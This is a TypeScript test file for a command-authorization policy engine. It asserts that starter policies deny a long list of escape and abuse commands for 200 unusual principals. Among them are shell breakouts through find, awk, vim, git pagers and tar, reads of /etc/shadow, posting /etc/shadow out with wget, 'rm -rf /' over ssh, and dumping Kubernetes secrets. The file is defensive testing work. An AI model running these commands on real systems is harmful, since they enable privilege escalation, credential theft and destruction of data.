import {existsSync, mkdtempSync, readFileSync, rmSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {beforeAll, describe, expect, test} from 'vitest'
import {showFinding} from '../src/catalog/finding.ts'
import {checkBundle, loadBundle} from '../src/policy/bundle.ts'
import {decideUse} from '../src/policy/decide.ts'
import {explainArgv} from '../src/policy/explain.ts'
import type {Bundle} from '../src/policy/policy.ts'
import {writeStarter} from '../src/policy/starter.ts'
import {by, roleOf, targetOf} from './policy-folder.ts'

/** Ways out of a tool that only looks, of our own; a folder with a larger list may be named by PROD_ATTACKS (argv.jsonl). */
const own: string[][] = [
  ['date', '-s', '2020-01-01'],
  ['date', '-f', '/etc/shadow'],
  ['date', '--file=/etc/shadow'],
  ['df', '--output=source', '/proc/1/root'],
  ['id', 'root'],
  ['uname', '--help'],
  ['sh', '-c', 'id'],
  ['/bin/sh', '-c', 'id'],
  ['env', 'sh', '-c', 'id'],
  ['env', '-S', 'sh -c id'],
  ['env', 'LD_PRELOAD=/tmp/a.so', 'df', '-h'],
  ['timeout', '5', 'sh', '-c', 'id'],
  ['nice', 'sh'],
  ['find', '/var/log', '-exec', 'sh', '{}', ';'],
  ['find', '/var/log', '-delete'],
  ['find', '/var/log', '-fprintf', '/tmp/x', '%p'],
  ['grep', '-f', '/etc/shadow', 'x', '/var/log/app/a.log'],
  ['grep', '-r', 'x', '/etc'],
  ['/usr/bin/grep', '-F', '-f', '/etc/shadow', '/var/log/app/app.log'],
  ['tar', '-tf', '/backup/a.tar', '--to-command=sh'],
  ['tar', '-cf', '/tmp/x', '/etc'],
  ['tar', '--use-compress-program=sh', '-tf', '/backup/a.tar'],
  ['git', '-c', 'core.pager=sh', 'log'],
  ['git', 'log', '--output=/tmp/x'],
  ['git', 'push', 'origin', 'main'],
  ['git', 'ls-remote', 'ext::sh -c id'],
  ['ssh', '-oProxyCommand=sh', 'web-1.prod.example', 'uptime'],
  ['ssh', 'web-1.prod.example', 'rm', '-rf', '/'],
  ['curl', '-o', '/etc/cron.d/x', 'https://status.internal.example/'],
  ['curl', 'file:///etc/shadow'],
  ['curl', '-K', '/tmp/x', 'https://status.internal.example/'],
  ['wget', '--post-file=/etc/shadow', 'https://status.internal.example/'],
  ['kubectl', 'exec', 'pod', '--', 'sh'],
  ['kubectl', '--kubeconfig=/tmp/kc', 'get', 'pods'],
  ['kubectl', 'get', 'secrets', '-o', 'yaml'],
  ['psql', '-c', '\\! sh'],
  ['psql', '-c', 'select pg_read_file($$/etc/passwd$$)'],
  ['mysql', '-e', 'select 1 into outfile "/tmp/x"'],
  ['sqlite3', '/var/lib/app/app.db', '.shell id'],
  ['awk', 'BEGIN{system("id")}'],
  ['sed', '-n', '1e id', '/var/log/app/a.log'],
  ['less', '+!id', '/var/log/app/a.log'],
  ['vim', '-c', ':!id', '/etc/nginx/nginx.conf'],
  ['systemctl', 'restart', 'nginx'],
  ['systemctl', '--host=evil', 'status', 'x'],
  ['journalctl', '--vacuum-size=1'],
  ['rsync', '-e', 'sh -c id', '--list-only', 'rsync://mirror.internal.example/x'],
  ['tcpdump', '-z', 'sh', '-i', 'eth0'],
  ['strace', '-o', '|sh', '-p', '1'],
  ['make', '--eval=$(shell id)', '-n', 'deploy'],
  ['python3', '-c', 'import os'],
  ['node', '-e', '1'],
  ['openssl', 'enc', '-in', '/etc/shadow'],
  ['zip', '-sf', '/backup/a.zip', '-TT', 'sh'],
]

function attacks(): string[][] {
  const folder = process.env.PROD_ATTACKS
  const file = folder === undefined ? undefined : join(folder, 'argv.jsonl')
  if (file === undefined || !existsSync(file)) return own
  const lines = readFileSync(file, 'utf8').split('\n').filter(Boolean)
  const given = lines.map(line => JSON.parse(line) as {argv: string[]; verdict: string})
  return [...own, ...given.filter(({verdict}) => verdict === 'escape').map(({argv}) => argv)]
}

/** Two hundred people whom nobody meant: odd names and odd groups, each with each. */
const oddNames = [
  '',
  ' ',
  '*',
  'root',
  'admin',
  'Person::"root"',
  'engineers',
  '../root',
  'а1ice',
  'alice\u200b',
  'ALICE',
  'null',
  '%2a',
  'a\nb',
  '|',
  'sre-leads',
  '0',
  'undefined',
  '🦊',
  'x'.repeat(400),
]
const oddGroups = [
  [],
  ['*'],
  ['root', 'wheel', 'admins'],
  ['everyone'],
  [''],
  ['Group::"engineers"'],
  ['Engineers', 'ENGINEERS'],
  ['engineers\u200b'],
  ['sudo', 'ops', 'security', 'sre-leads', 'web-operators'],
  ['engineers', 'leads'],
]
const principals = oddNames.flatMap(principal => oddGroups.map(groups => ({principal, groups})))

async function allows(bundle: Bundle): Promise<string[]> {
  const found: string[] = []
  const ways = attacks()
  for (const who of principals) {
    for (const argv of ways)
      for (const target of [undefined, ...bundle.catalog.targets.keys()]) {
        const {decision} = explainArgv(bundle, {...who, argv, target})
        if (decision !== 'deny') found.push(`${JSON.stringify(who)} ${argv.join(' ')} ${decision}`)
      }
    const asked = by(who.principal, ...who.groups)
    for (const target of bundle.catalog.targets.keys()) {
      const resource = targetOf(bundle, target)
      for (const action of ['breakGlass', 'approve', 'review', 'watch', 'readRecording'] as const)
        if (bundle.ask({...asked, action, resource, context: {incident: true}}).decision === 'allow')
          found.push(`${JSON.stringify(who)} ${action}`)
      for (const use of ['shell', 'forward'] as const)
        if (decideUse(bundle, {...asked, resource, context: {}}, use).decision !== 'deny') found.push(`${JSON.stringify(who)} ${use}`)
    }
    for (const role of bundle.catalog.roles.keys())
      if (decideUse(bundle, {...asked, resource: roleOf(bundle, role), context: {}}, 'assume').decision !== 'deny')
        found.push(`${JSON.stringify(who)} ${role}`)
    if (bundle.ask({...asked, action: 'readAudit', resource: {kind: 'log'}, context: {}}).decision === 'allow')
      found.push(`${JSON.stringify(who)} readAudit`)
  }
  return found
}

describe('TM-D1: what `policy init` writes', () => {
  let dir: string
  const write = (name: string, ...choice: [Parameters<typeof writeStarter>[1]?]) => writeStarter(join(dir, name), ...choice)
  let bundles: Record<'plain' | 'library', Bundle>
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'prod-templates-'))
    bundles = {
      plain: await loadBundle({...(await write('plain')), development: false}),
      library: await loadBundle({...(await write('library', {tools: ['all']})), development: false}),
    }
    return () => rmSync(dir, {recursive: true, force: true})
  })

  test('TM-D1: 200 odd people are refused everything, with the few tools and with the whole library', async () => {
    expect(principals).toHaveLength(200)
    for (const [name, bundle] of Object.entries(bundles)) expect(await allows(bundle), name).toEqual([])
  }, 120_000)

  test('TM-D1: TM-D4: where a group may look, none of it is a way out, and others may not even look', async () => {
    const bundle = await loadBundle({...(await write('look', {tools: ['all'], look: 'lookers'})), development: false})
    expect(await allows(bundle)).toEqual([])
    const through = attacks().filter(argv => explainArgv(bundle, {principal: 'alice', groups: ['lookers'], argv}).decision !== 'deny')
    expect(through).toEqual([])
  }, 120_000)

  test('TM-D1: no template keeps output as it is, asks fewer than one person, or has a time that is not short', () => {
    for (const {catalog} of Object.values(bundles)) {
      for (const tool of catalog.tools.values()) {
        // `redacted` is for tools whose output may hold secrets: what the caller sees is redacted by it too
        expect(['none', 'redacted'], tool.name).toContain(tool.retention)
        expect(tool.limits.wallSeconds, tool.name).toBeLessThanOrEqual(3600)
        expect(
          tool.grammar.commands.every(({class: one, approvals}) => one === 'read' || (approvals ?? 1) >= 1),
          tool.name,
        ).toBe(true)
      }
    }
  })

  test('chosen tools come with what stands behind them, their tests, an account, and the group that looks', async () => {
    const {tools, ...place} = await write('few', {tools: ['timeout', '/usr/bin/grep'], look: 'lookers', account: 'nobody'})
    expect(tools).toEqual(['/usr/bin/grep', 'df', 'env', 'nice', 'timeout', 'uptime'])
    const {findings, bundle, tests} = await checkBundle({...place, development: false})
    expect(findings.map(showFinding)).toEqual([])
    expect(tests.length).toBeGreaterThan(40)
    expect([...(bundle?.catalog.tools.values() ?? [])].map(({runAs}) => runAs)).toEqual(tools.map(() => 'nobody'))
    const decide = (group: string) =>
      explainArgv(bundle as Bundle, {principal: 'zoe', groups: [group], argv: ['timeout', '5', 'df', '-h']}).decision
    expect([decide('lookers'), decide('engineers')]).toEqual(['allow', 'deny'])
    await expect(write('none', {tools: ['rm']})).rejects.toMatchObject({
      code: 'USAGE',
      message: expect.stringContaining('the library has no tool rm: it has '),
    })
    expect(existsSync(join(dir, 'none'))).toBe(false)
  })
})
